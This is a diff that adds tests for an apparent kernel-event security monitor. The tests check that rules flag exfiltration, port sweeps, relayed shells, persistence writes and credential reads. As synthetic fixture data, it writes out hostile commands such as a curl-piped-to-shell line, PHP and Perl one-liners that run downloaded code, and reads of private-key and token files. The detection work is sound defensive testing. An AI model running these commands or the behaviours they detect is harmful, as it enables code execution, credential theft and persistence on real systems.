@@ -225,6 +225,24 @@ def test_env_dump_piped_to_the_network(fire: Any, ev: Any) -> None:
                 ev.connect(201, "203.0.113.7", 443, ppid=200)) == []
 
 
+def test_env_read_by_the_agent_itself_is_not_a_dump(fire: Any, ev: Any) -> None:
+    # Claude Code's Bash tool: `bash -c env` (bash execs env, a child of claude), the output
+    # read back by claude, then claude's next request to its API
+    probe = (ev.exec(100, "/usr/local/bin/claude", "claude", "-p", "task", comm="claude"),
+             ev.fork(100, 300, comm="claude"),
+             ev.exec(300, "/bin/bash", "bash", "-c", "env", ppid=100),
+             ev.exec(300, "/usr/bin/env", "env", ppid=100))
+    assert fire(*probe, ev.send(100, "203.0.113.10", 443, 20_000, comm="HTTP Client")) == []
+    # the same dump from a script the agent runs, sent by the script: still a dump sent out
+    assert fire(ev.exec(100, "/usr/local/bin/claude", "claude", comm="claude"),
+                ev.fork(100, 200, comm="claude"),
+                ev.exec(200, "/usr/bin/python3", "python3", "leak.py", ppid=100),
+                ev.fork(200, 201, comm="python3"),
+                ev.exec(201, "/usr/bin/env", "env", ppid=200),
+                ev.send(200, "203.0.113.7", 443, 4_000, ppid=100, comm="python3")) == [
+        "exfil_env_dump_to_network"]
+
+
 def test_bytes_out_threshold(fire: Any, ev: Any) -> None:
     assert fire(ev.send(10, "203.0.113.7", 443, 30_000_000), ev.send(10, "203.0.113.7", 443, 30_000_000)) == [
         "exfil_bytes_out_threshold"]
@@ -500,6 +518,64 @@ def test_connect_attempts_count_whatever_the_errno(fire: Any, ev: Any) -> None:
     assert got == ["ssh_private_key_read", "exfil_secret_read_then_connect"]
 
 
+def test_port_sweep_counts_distinct_ports_of_one_host(fire: Any, ev: Any) -> None:
+    """nc -z over a port list: non-blocking connects (EINPROGRESS), one process per port; the
+    refusals are never connect results. More than 8 ports of one host in 10 s is a sweep."""
+    t0 = 60_000_000_000
+    sweep = [ev.connect(300 + i, "198.18.0.9", port, comm="nc", errno=115, ts=t0 + i * 50_000_000)
+             for i, port in enumerate((21, 22, 23, 25, 110, 139, 445, 3306, 5432))]
+    assert fire(*sweep) == ["network_port_sweep"]
+    assert fire(*sweep[:8]) == []
+    # the same ports of nine hosts, one port of each; two ports of one host again and again;
+    # loopback; nine ports of one host spread over more than the window
+    assert fire(*(ev.connect(300 + i, f"198.18.0.{10 + i}", 443, errno=115, ts=t0 + i) for i in range(9))) == []
+    assert fire(*(ev.connect(300 + i, "198.18.0.9", 443 if i % 2 else 80, ts=t0 + i) for i in range(30))) == []
+    assert fire(*(ev.connect(300 + i, "127.0.0.1", 8000 + i, errno=111, ts=t0 + i) for i in range(20))) == []
+    assert fire(*(ev.connect(300 + i, "198.18.0.9", 7000 + i, ts=t0 + i * 2_000_000_000) for i in range(9))) == []
+
+
+def test_preload_of_a_downloaded_library(fire: Any, ev: Any) -> None:
+    lib = "/home/code/project/.cache/libx.so"
+    curl = [ev.exec(20, "/usr/bin/curl", "curl", "-sSfo", ".cache/libx.so", "http://203.0.113.5/lib.so"),
+            ev.connect(20, "203.0.113.5", 80, errno=115, comm="curl"),
+            ev.open(20, lib, kind="write", comm="curl")]
+    preload = ev.exec(21, "/bin/true", "true", env=(f"LD_PRELOAD={lib}", "LD_LIBRARY_PATH=/opt/x"))
+    assert fire(*curl, preload) == ["preload_of_downloaded_library"]
+    # a library a compiler built, preloaded from /tmp; a download not preloaded; another library
+    gcc = [ev.exec(30, "/usr/bin/gcc", "gcc", "-shared", "-o", "/tmp/d/libl.so", "l.c"),
+           ev.open(30, "/tmp/d/libl.so", kind="write", comm="ld")]
+    assert fire(*gcc, ev.exec(31, "/tmp/d/m", "m", env=("LD_PRELOAD=/tmp/d/libl.so",))) == []
+    assert fire(*curl, ev.exec(21, "/bin/true", "true", env=("LD_LIBRARY_PATH=/home/code/project/.cache",))) == []
+    assert fire(*curl, ev.exec(21, "/bin/true", "true", env=("LD_PRELOAD=/usr/lib/libjemalloc.so.2",))) == []
+
+
+def test_memory_dump_of_another_process(fire: Any, ev: Any) -> None:
+    attach = ev.priv(30, "ptrace", 16, 4242, "", comm="gdb")
+    core = ev.write_summary(30, "/tmp/.core1", 600_000, comm="gdb")
+    assert "other_process_memory_dumped" in fire(attach, core)
+    # a debugger attached that writes little; a large write by another process; gdb on its child
+    assert "other_process_memory_dumped" not in fire(attach, ev.write_summary(30, "/tmp/x", 4000, comm="gdb"))
+    assert "other_process_memory_dumped" not in fire(attach, ev.write_summary(31, "/tmp/.core1", 600_000))
+    assert "other_process_memory_dumped" not in fire(attach, ev.write_summary(30, "/dev/null", 600_000))
+
+
+def test_file_times_set_in_the_past(fire: Any, ev: Any) -> None:
+    assert fire(ev.utime(10, "/w/.cache/implant", 1577836800)) == ["file_timestamp_backdated"]
+    assert fire(ev.utime(10, "/w/.cache/implant", 1577836800, comm="python3")) == ["file_timestamp_backdated"]
+    # a time set to a recent moment; a directory time restored by tar or cp -p
+    assert fire(ev.utime(10, "/w/build/stamp", 1796291000, backdated=False)) == []
+    assert fire(ev.utime(11, "/w/x/src", 1556668800, comm="tar")) == []
+    assert fire(ev.utime(12, "/w/y/d", 1556668800, comm="cp")) == []
+
+
+def test_namespace_handles_of_another_process(fire: Any, ev: Any) -> None:
+    nsenter = ev.exec(40, "/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "-p", "sh")
+    assert "other_process_namespace_open" in fire(nsenter, ev.open(40, "/proc/1/ns/mnt", errno=13))
+    assert "other_process_namespace_open" in fire(ev.open(41, "/proc/1/ns/net", comm="python3"))
+    assert fire(ev.open(42, "/proc/self/ns/net"), ev.open(42, "/proc/42/ns/pid")) == []
+    assert fire(ev.open(43, "/proc/1/ns/net", comm="lsns")) == []
+
+
 def test_dns_as_a_channel(fire: Any, ev: Any) -> None:
     t0 = 60_000_000_000
     burst = [ev.connect(10, "198.18.0.53", 53, ts=t0 + i * 100_000_000, comm="python3") for i in range(41)]
@@ -509,6 +585,44 @@ def test_dns_as_a_channel(fire: Any, ev: Any) -> None:
                         "QUtJQUlPU0ZPRE5ON0VYQU1QTEUKd0phbHJYVXRuRkVNSS9LN01ERU5H.x.example")) == [
         "exfil_dns_encoded_query"]
     assert fire(ev.exec(12, "/usr/bin/dig", "dig", "github.com", "+short")) == []
+
+
+def test_relay_through_pipes_in_the_kernels_terms(fire: Any, ev: Any) -> None:
+    """The pipe ends the kernel reports link sh and nc whatever their names and relation:
+    nc (renamed) is no sibling of the shell here, and the fifo closes the loop."""
+    pipe = [ev.exec(200, "/bin/bash", "bash", "-c", "x", ppid=100),
+            ev.chan(200, "pipe", 3, "pipe", "read", 11, fd2=4, ppid=100, comm="bash"),
+            ev.fork(200, 201, ppid=100), ev.fork(200, 202, ppid=100),
+            ev.dup(201, 3, 0, ppid=200, fd_kind="fifo", chan_id=22, chan_end="read"),
+            ev.dup(201, 4, 1, ppid=200, fd_kind="pipe", chan_id=11, chan_end="write"),
+            ev.exec(201, "/tmp/.cache/updater", "updater", ppid=200),
+            ev.connect(201, "198.18.0.2", 443, ppid=200, comm="updater", errno=115),
+            ev.dup(202, 3, 0, ppid=200, fd_kind="pipe", chan_id=11, chan_end="read"),
+            ev.dup(202, 5, 1, ppid=200, fd_kind="fifo", chan_id=22, chan_end="write")]
+    assert fire(*pipe, ev.exec(202, "/bin/sh", "sh", "-i", ppid=200)) == [
+        "shell_relayed_through_pipe_to_socket"]
+    # the same shell run as sh -c: not a program read from stdin
+    assert fire(*pipe, ev.exec(202, "/bin/sh", "sh", "-c", "make", ppid=200)) == []
+
+
+def test_bind_shell_relayed_through_pipes_fires_at_the_accept(fire: Any, ev: Any) -> None:
+    """node spawns sh behind two pipes, then listens: the shell is relayed once node accepts
+    a connection from outside (not from loopback)."""
+    from coi_sentinel.events import model as m
+    spawn = [ev.exec(300, "/usr/bin/node", "node", "-e", "x", ppid=100),
+             ev.chan(300, "pipe", 20, "pipe", "read", 11, fd2=21, comm="node", ppid=100),
+             ev.chan(300, "pipe", 22, "pipe", "read", 12, fd2=23, comm="node", ppid=100),
+             ev.fork(300, 301, ppid=100),
+             ev.dup(301, 20, 0, ppid=300, comm="node", fd_kind="pipe", chan_id=11, chan_end="read"),
+             ev.dup(301, 23, 1, ppid=300, comm="node", fd_kind="pipe", chan_id=12, chan_end="write"),
+             ev.exec(301, "/bin/sh", "sh", ppid=300)]
+
+    def accept(peer: str) -> m.AcceptEvent:
+        return m.AcceptEvent(**ev.hdr(300, 100, "node", None, 1000), fd=24, listen_fd=19, family="inet",
+                             daddr=peer, dport=40000, errno=0)
+    assert fire(*spawn) == []
+    assert fire(*spawn, accept("198.18.0.2")) == ["shell_relayed_through_pipe_to_socket"]
+    assert fire(*spawn, accept("127.0.0.1")) == []
 
 
 def test_relayed_and_piped_shells(fire: Any, ev: Any) -> None:
@@ -602,3 +716,77 @@ def test_history_scripts_and_implants(fire: Any, ev: Any) -> None:
     assert fire(ev.exec(50, "/usr/bin/python3", "python3", "-m", "pip", "install", "x"),
                 ev.connect(50, "151.101.0.223", 443, fd=3, comm="python3"),
                 ev.fork(50, 51, comm="python3"), ev.exec(51, "/bin/sh", "sh", "-c", "gcc x.c", ppid=50)) == []
+
+
+# ---- the held-out evaluation's behaviours (tests/bpf/test_detection_holdout.py) ---------------
+
+def test_private_key_files_and_developer_tokens(fire: Any, ev: Any) -> None:
+    assert fire(ev.open(10, "/home/code/.gnupg/private-keys-v1.d/0123ABCD.key", comm="tar")) == \
+        ["private_key_file_read"]
+    assert fire(ev.open(10, "/srv/app/tls/server.p12", comm="python3")) == ["private_key_file_read"]
+    assert fire(ev.exec(11, "/usr/sbin/nginx", "nginx"), ev.open(11, "/etc/nginx/server.key")) == []
+    assert fire(ev.open(12, "/home/code/.pgpass", comm="cat")) == ["cloud_credential_read"]
+    assert fire(ev.open(12, "/home/code/.vault-token", comm="python3")) == ["cloud_credential_read"]
+    assert fire(ev.exec(13, "/usr/bin/psql", "psql"), ev.open(13, "/home/code/.pgpass")) == []
+    assert fire(ev.exec(14, "/root/.cargo/bin/cargo", "cargo", "publish"),
+                ev.open(14, "/home/code/.cargo/credentials.toml")) == []
+
+
+def test_memory_of_another_process_copied(fire: Any, ev: Any) -> None:
+    assert fire(ev.priv(10, "process_vm_readv", 4242, 1, comm="python3")) == \
+        ["other_process_memory_read_syscall"]
+    assert fire(ev.priv(10, "process_vm_readv", 10, 1, comm="python3")) == []          # itself
+    assert fire(ev.exec(11, "/usr/bin/strace", "strace", "-f", "ls"),
+                ev.priv(11, "process_vm_readv", 12, 1)) == []                          # a tracer
+
+
+def test_loader_and_python_start_up_hooks(fire: Any, ev: Any) -> None:
+    assert fire(ev.open(10, "/etc/ld.so.preload", kind="write", errno=13, comm="sh")) == \
+        ["persistence_loader_preload_write"]
+    pth = "/home/code/.local/lib/python3.11/site-packages/zz_init.pth"
+    assert fire(ev.exec(11, "/bin/sh", "sh", "-c", "echo x > ..."), ev.open(11, pth, kind="write")) == \
+        ["persistence_python_startup_write"]
+    assert fire(ev.exec(12, "/usr/bin/python3", "python3", "/tmp/v/bin/pip", "install", "x"),
+                ev.open(12, "/tmp/v/lib/python3.11/site-packages/distutils-precedence.pth", kind="write")) == []
+    assert fire(ev.open(13, "/home/code/.config/autostart/upd.desktop", kind="write", comm="sh")) == \
+        ["persistence_service_unit_write"]
+    assert fire(ev.open(14, "/home/code/.ssh/rc", kind="write", comm="sh")) == ["persistence_shell_rc_write"]
+    assert fire(ev.open(15, "/home/code/.ssh/known_hosts", kind="write", comm="ssh")) == []
+
+
+def test_setcap_by_its_system_call(fire: Any, ev: Any) -> None:
+    # a renamed setcap: no command line to read, the setxattr of security.capability says it
+    assert fire(ev.exec(10, "/work/.cache/sc", "sc", "cap_net_raw+ep", "t"),
+                ev.priv(10, "set_file_cap", 0, 0, "/work/.cache/t")) == ["file_capability_set"]
+    assert fire(ev.exec(11, "/usr/sbin/setcap", "setcap", "cap_net_raw+ep", "t"),
+                ev.priv(11, "set_file_cap", 0, 0, "t")) == ["file_capability_set"]      # once
+
+
+def test_kernel_thread_names_and_ring_buffer_clearing(fire: Any, ev: Any) -> None:
+    assert fire(ev.exec(10, "/usr/bin/sleep", "[kworker/0:1]", "1")) == ["process_masquerades_as_kernel_thread"]
+    assert fire(ev.exec(10, "/usr/bin/sleep", "sleep", "[1]")) == []
+    assert fire(ev.exec(11, "/usr/bin/dmesg", "dmesg", "-C")) == ["system_log_tampering"]
+    assert fire(ev.exec(11, "/usr/bin/dmesg", "dmesg", "-T")) == []
+
+
+def test_refused_connections_in_a_burst(fire: Any, ev: Any) -> None:
+    probes = [ev.connect(10, "203.0.113.5", port, errno=111) for port in range(20, 32)]
+    assert fire(*probes) == ["network_port_sweep", "network_port_scan"]     # 12 ports of one host
+    probes = [ev.connect(10, f"203.0.113.{i}", 22, errno=111) for i in range(20, 32)]
+    assert fire(*probes) == ["network_port_scan"]                            # one port of 12 hosts
+    assert fire(*(ev.connect(10, "127.0.0.1", 8000, errno=111) for _ in range(12))) == []
+    assert fire(*(ev.connect(10, "203.0.113.5", 443, errno=115) for _ in range(12))) == []
+
+
+def test_downloaded_code_through_filters_and_shell_strings(fire: Any, ev: Any) -> None:
+    assert fire(ev.fork(100, 101),
+                ev.exec(100, "/bin/bash", "bash", "-c", "curl -sSf http://203.0.113.5/r.gz | gzip -d | sh"),
+                ev.exec(101, "/bin/sh", "sh", ppid=100)) == ["download_piped_to_shell"]
+    assert fire(ev.exec(10, "/usr/bin/php", "php", "-r",
+                        "system(file_get_contents(getenv('ATK').'/run.sh'));")) == \
+        ["interpreter_runs_downloaded_code"]
+    assert fire(ev.exec(11, "/usr/bin/perl", "perl", "-MHTTP::Tiny", "-e",
+                        "eval HTTP::Tiny->new->get($u)->{content}")) == ["interpreter_runs_downloaded_code"]
+    assert fire(ev.exec(12, "/usr/bin/python3", "python3", "-c",
+                        "import urllib.request as u; u.urlopen(x).read(); import subprocess; "
+                        "subprocess.run('echo done', shell=True)")) == []
